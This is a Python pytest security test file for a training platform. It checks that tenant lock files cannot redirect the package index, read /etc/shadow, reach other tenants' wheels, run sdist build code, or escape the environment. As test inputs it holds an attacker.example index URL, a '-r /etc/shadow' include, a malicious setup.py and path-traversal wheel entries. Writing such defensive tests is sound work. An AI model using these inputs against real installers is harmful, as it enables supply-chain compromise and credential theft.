"""A job's environment lock is what a tenant wrote: nothing in it may make the node read, fetch or run what the
operator did not choose, or reach another tenant.

* the lock cannot choose the index, include another file, or point at a URL or path: refused by line at
  submission (the API) and again on the node; a pylock.toml whose file URL names a wheel on the node is not
  followed — packages come from the operator's index only, by name, version and hash;
* no package's build code runs on the node: an sdist (its setup.py would run as root) is refused, wheels only;
* a wheel whose entries climb out of the environment lands nowhere outside it;
* the lock in the tree is a regular file read without following links (not /etc/shadow through a symlink, not a
  FIFO that would block the agent, not 20 GB): refused by the API from the archive's headers and by the node."""

from __future__ import annotations

import asyncio
import gzip
import hashlib
import io
import os
import tarfile
from pathlib import Path

import pytest
from trainyard_api.code import environment_pinned, lock_in_archive

from tests.support.wheels import make_wheel, probe_wheel, requirements_lock
from trainyard_contract.lockfile import MAX_LOCK_BYTES, LockError
from trainyard_contract.spec import Environment, TrainingSpec
from trainyard_node_agent.envcache import EnvCache, EnvironmentBuildError, Installer, base_environment, find_uv

pytestmark = [pytest.mark.security]


def cache_with_index(tmp_path: Path, index: Path) -> EnvCache:
    return EnvCache(tmp_path / "cache", max_bytes=10**9, base=base_environment(),
                    installer=Installer(find_uv(), find_links=(str(index),), no_index=True, timeout_s=120))


def build(cache: EnvCache, tree: Path, lock: str, text: str) -> Path:
    (tree / lock).write_text(text)
    plan = cache.plan(Environment(lock=lock, sha256="sha256:" + hashlib.sha256(text.encode()).hexdigest()), tree)
    return asyncio.run(cache.acquire(plan, lambda _line: None)).root


def spec_with_lock(lock: str) -> TrainingSpec:
    return TrainingSpec.model_validate({
        "specVersion": "v1", "modelConfig": "gpt-tiny@v1", "dataset": "tinycorpus@v1", "codeRevision": "x",
        "resources": {"gpuType": "cpu", "gpuCount": 1},
        "training": {"maxSteps": 2, "globalBatchSize": 2, "microBatchSize": 2, "sequenceLength": 16,
                     "learningRate": 0.001},
        "code": {"archive": "sha256:" + "0" * 64, "entrypoint": ["python", "train.py"],
                 "environment": {"lock": lock}}})


def archive_of(entries: dict[str, bytes | tuple[str, str]]) -> bytes:
    buffer = io.BytesIO()
    with gzip.GzipFile(fileobj=buffer, mode="wb", mtime=0) as gz, tarfile.open(fileobj=gz, mode="w") as tar:
        for name, content in entries.items():
            info = tarfile.TarInfo(name)
            if isinstance(content, tuple):
                info.type, info.linkname = (tarfile.SYMTYPE if content[0] == "sym" else tarfile.FIFOTYPE), content[1]
                tar.addfile(info)
            else:
                info.size = len(content)
                tar.addfile(info, io.BytesIO(content))
    return buffer.getvalue()


@pytest.mark.parametrize("line", [
    "--index-url https://attacker.example/simple",
    "-r /etc/shadow",
    "--find-links /var/lib/trainyard/tenants/other/wheels",
    "x @ file:///var/lib/trainyard/tenants/other/x-1.0-py3-none-any.whl --hash=sha256:" + "a" * 64,
])
def test_the_api_refuses_a_lock_that_would_choose_where_packages_come_from(line: str) -> None:
    _, problems = environment_pinned(spec_with_lock("requirements.txt"), f"{line}\n".encode())
    assert [p.field for p in problems] == ["code.environment.lock"]
    assert "not allowed" in problems[0].message or "not an exact pin" in problems[0].message


def test_the_api_refuses_the_platforms_own_packages_in_a_lock() -> None:
    _, problems = environment_pinned(spec_with_lock("requirements.txt"),
                                     f"trainyard-sdk==0.0.1 --hash=sha256:{'a' * 64}\n".encode())
    assert problems[0].field == "code.environment.lock" and "trainyard-sdk is the node's own" in problems[0].message


def test_the_api_reads_the_lock_from_the_archive_headers_without_following_or_filling_memory() -> None:
    data = archive_of({"train.py": b"print(1)\n", "link.txt": ("sym", "/etc/shadow"), "pipe.txt": ("fifo", ""),
                       "big.txt": b"x" * (MAX_LOCK_BYTES + 1), "requirements.txt": b"ok==1 --hash=sha256:" + b"a" * 64})
    assert "is a link in the code tree" in str(lock_in_archive(data, "link.txt"))
    assert "not a regular file" in str(lock_in_archive(data, "pipe.txt"))
    assert f"a lock may be at most {MAX_LOCK_BYTES}" in str(lock_in_archive(data, "big.txt"))
    assert "is not a file of the code tree" in str(lock_in_archive(data, "nope.txt"))
    assert lock_in_archive(data, "requirements.txt") == b"ok==1 --hash=sha256:" + b"a" * 64


def test_the_node_opens_the_lock_without_following_links_blocking_or_reading_without_bound(tmp_path: Path) -> None:
    tree = tmp_path / "tree"
    (tree / "sub").mkdir(parents=True)
    (tree / "shadow.txt").symlink_to("/etc/shadow")
    (tree / "etc").symlink_to("/etc")
    os.mkfifo(tree / "pipe.txt")  # nobody writes it: an open that followed it would block the agent
    (tree / "big.txt").write_bytes(b"#" * (MAX_LOCK_BYTES + 1))
    cache = cache_with_index(tmp_path, tmp_path / "index")
    for lock, says in (("shadow.txt", "symbolic link"), ("etc/shadow", "symbolic link"),
                       ("pipe.txt", "not a regular file"), ("big.txt", f"over {MAX_LOCK_BYTES} bytes")):
        with pytest.raises(LockError, match=says):
            cache.plan(Environment(lock=lock), tree)
    for lock in ("--index-url https://attacker.example/simple\n", "-r /etc/shadow\n"):
        (tree / "requirements.txt").write_text(lock)
        with pytest.raises(LockError, match="not allowed in a job's lock"):
            cache.plan(Environment(lock="requirements.txt"), tree)


def test_a_pylock_file_url_is_never_followed(tmp_path: Path) -> None:
    elsewhere = tmp_path / "another-tenants-wheels"
    secret = make_wheel(elsewhere, "secretpkg", "1.0", {"secretpkg/__init__.py": "TOKEN = 'theirs'\n"})
    index = tmp_path / "index"
    probe_wheel(index)  # the operator's index has no secretpkg
    text = ('lock-version = "1.0"\n[[packages]]\nname = "secretpkg"\nversion = "1.0"\n'
            f'wheels = [{{ url = "{secret.path.as_uri()}", hashes = {{ sha256 = "{secret.sha256}" }} }}]\n')
    tree = tmp_path / "tree"
    tree.mkdir()
    with pytest.raises(EnvironmentBuildError, match="secretpkg was not found in the provided package locations"):
        build(cache_with_index(tmp_path, index), tree, "pylock.toml", text)


def test_no_build_code_of_a_package_runs_on_the_node(tmp_path: Path) -> None:
    marker = tmp_path / "setup-py-ran-as-root"
    setup = (f"import pathlib\npathlib.Path({str(marker)!r}).write_text('pwned')\n"
             "from setuptools import setup\nsetup()\n")
    index = tmp_path / "index"
    index.mkdir()
    sdist = index / "evil-1.0.tar.gz"
    buffer = io.BytesIO()
    with gzip.GzipFile(fileobj=buffer, mode="wb", mtime=0) as gz, tarfile.open(fileobj=gz, mode="w") as tar:
        for name, text in (("evil-1.0/setup.py", setup),
                           ("evil-1.0/PKG-INFO", "Metadata-Version: 2.1\nName: evil\nVersion: 1.0\n")):
            info = tarfile.TarInfo(name)
            info.size = len(text.encode())
            tar.addfile(info, io.BytesIO(text.encode()))
    sdist.write_bytes(buffer.getvalue())
    tree = tmp_path / "tree"
    tree.mkdir()
    lock = f"evil==1.0 --hash=sha256:{hashlib.sha256(sdist.read_bytes()).hexdigest()}\n"
    with pytest.raises(EnvironmentBuildError, match="(?i)source distribution|no wheel|--no-build"):
        build(cache_with_index(tmp_path, index), tree, "requirements.txt", lock)
    assert not marker.exists()


def test_a_wheel_cannot_write_outside_the_environment(tmp_path: Path) -> None:
    index = tmp_path / "index"
    outside = tmp_path / "escaped.py"
    climber = make_wheel(index, "climber", "1.0", {"climber/__init__.py": "X = 1\n"},
                         extra_entries={f"../../../../../../../..{outside}": "pwned = True\n",
                                        "climber-1.0.data/data/../../../../escaped-data.py": "pwned = True\n"})
    tree = tmp_path / "tree"
    tree.mkdir()
    cache = cache_with_index(tmp_path, index)
    try:
        root = build(cache, tree, "requirements.txt", requirements_lock([climber]))
    except (EnvironmentBuildError, OSError):
        root = None  # refused outright: fine
    assert not outside.exists() and not (tmp_path / "escaped-data.py").exists()
    assert not any(p.name.startswith("escaped") for p in (tmp_path / "cache").rglob("*")
                   if root is None or not p.is_relative_to(root))
